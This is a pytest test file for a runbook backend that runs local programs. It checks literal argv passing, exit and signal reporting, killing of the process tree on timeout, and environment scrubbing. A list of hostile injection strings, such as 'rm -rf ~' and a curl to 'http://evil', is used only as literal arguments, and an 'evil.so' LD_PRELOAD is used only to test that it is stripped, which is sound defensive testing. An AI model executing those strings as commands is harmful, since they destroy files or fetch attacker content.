"""The local-program backend: literal argv elements, exit codes, a deadline that kills the tree."""

from __future__ import annotations

import json
import os
import stat
import sys
import time
from pathlib import Path

import pytest

from app.domain.runbook import Backend
from app.domain.runbook_progress import RunStatus
from app.runbooks.backends import command, execute
from app.runbooks.calls import OUTPUT_LIMIT, ActionSettings, CallResult, PlannedCall

pytestmark = pytest.mark.skipif(os.name != "posix", reason="process groups are POSIX")

PRINT_ARGV = "import json, sys; print(json.dumps(sys.argv[1:]))"
HOSTILE = [
    "x; rm -rf ~",
    "$(curl http://evil)",
    "{{7*7}}",
    "`id`",
    "first line\nsecond line",
    "a | b && c > /tmp/noc-owned",
    "'quoted' \"double\"",
    "--help",
    "",
    "café ☕",
]


def run(*argv: str, timeout: float = 5.0) -> CallResult:
    call = PlannedCall(Backend.COMMAND, timeout, argv=argv)
    return execute(call, ActionSettings(), secret_lookup=lambda _: None)


def python(script: str, *args: str, timeout: float = 5.0) -> CallResult:
    return run(sys.executable, "-c", script, *args, timeout=timeout)


def test_each_label_reaches_the_program_as_one_literal_argument() -> None:
    """RELIABILITY.md 25: no shell, no template; every value is exactly one argv element."""
    result = python(PRINT_ARGV, *HOSTILE)
    assert (result.status, result.summary) == (RunStatus.SUCCEEDED, "exit 0")
    assert json.loads(result.output) == HOSTILE


def test_nonzero_exit_fails_with_stderr_kept() -> None:
    result = python(
        "import sys; print('restarting', flush=True); sys.stderr.write('unit not found\\n'); sys.exit(3)"
    )
    assert (result.status, result.summary) == (RunStatus.FAILED, "exit 3")
    assert result.output.splitlines() == ["restarting", "unit not found"]


def test_death_by_signal_is_named() -> None:
    result = python("import os, signal; os.kill(os.getpid(), signal.SIGTERM)")
    assert (result.status, result.summary) == (RunStatus.FAILED, "killed by signal SIGTERM")


def _gone(pid: int) -> bool:
    """No such process, or only a zombie waiting for its new parent to reap it."""
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return True
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, IndexError):
        return True
    return state in {"Z", "X"}


def test_timeout_kills_the_program_and_its_children() -> None:
    script = (
        "import subprocess, sys, time\n"
        "child = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(60)'])\n"
        "print(child.pid, flush=True)\n"
        "time.sleep(60)\n"
    )
    started = time.monotonic()
    result = python(script, timeout=1.0)
    assert time.monotonic() - started < 4
    assert result.status is RunStatus.TIMED_OUT
    assert result.summary == "still running after 1 s; killed"
    grandchild = int(result.output.split()[0])
    deadline = time.monotonic() + 5
    while not _gone(grandchild) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _gone(grandchild)


def test_a_background_child_does_not_hold_the_call() -> None:
    """The program exits at once; its daemonised child keeps stdout open but we do not wait."""
    script = (
        "import subprocess, sys\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3)'], start_new_session=True)\n"
        "print('started')\n"
    )
    started = time.monotonic()
    result = python(script, timeout=5)
    assert time.monotonic() - started < 2.5
    assert (result.status, result.output) == (RunStatus.SUCCEEDED, "started\n")


def test_missing_program_fails() -> None:
    result = run("/nonexistent/bin/noc-restart", "web")
    assert (result.status, result.summary) == (
        RunStatus.FAILED,
        "program not found: /nonexistent/bin/noc-restart",
    )


def test_program_not_on_path_fails() -> None:
    result = run("noc-no-such-program-4711")
    assert (result.status, result.summary) == (
        RunStatus.FAILED,
        "program not found: noc-no-such-program-4711",
    )


def test_program_without_execute_permission_fails(tmp_path: Path) -> None:
    script = tmp_path / "restart.sh"
    script.write_text("#!/bin/sh\necho hi\n")
    script.chmod(stat.S_IRUSR | stat.S_IWUSR)
    result = run(str(script))
    assert (result.status, result.summary) == (
        RunStatus.FAILED,
        f"program not executable: {script}",
    )


def test_empty_argv_is_refused() -> None:
    assert run().status is RunStatus.REFUSED


def test_environment_is_minimal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NOC_SECRET_RUNDECK", "canary-7f3a")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-7f3a")
    monkeypatch.setenv("LD_PRELOAD", "/tmp/evil.so")
    result = python("import json, os; print(json.dumps(dict(os.environ)))")
    environment = json.loads(result.output)
    # LC_CTYPE: Python's own locale coercion when the inherited LANG is plain C
    assert set(environment) <= {"PATH", "LANG", "HOME", "LC_CTYPE"}
    assert environment["PATH"] == os.environ["PATH"]
    assert "canary-7f3a" not in result.output


def test_safe_environment_fills_defaults() -> None:
    assert command.safe_environment({"HOME": "/home/op", "SECRET": "x"}) == {
        "HOME": "/home/op",
        "PATH": os.defpath,
        "LANG": "C.UTF-8",
    }


def test_stdin_is_closed() -> None:
    result = python("import sys; print(repr(sys.stdin.read()))")
    assert result.output == "''\n"


def test_long_output_is_clipped_keeping_both_ends() -> None:
    result = python("print('start' + 'x' * 20000 + 'end')")
    assert result.status is RunStatus.SUCCEEDED
    assert len(result.output) <= OUTPUT_LIMIT
    assert result.output.startswith("startxxx")
    assert result.output.rstrip().endswith("xxxend")
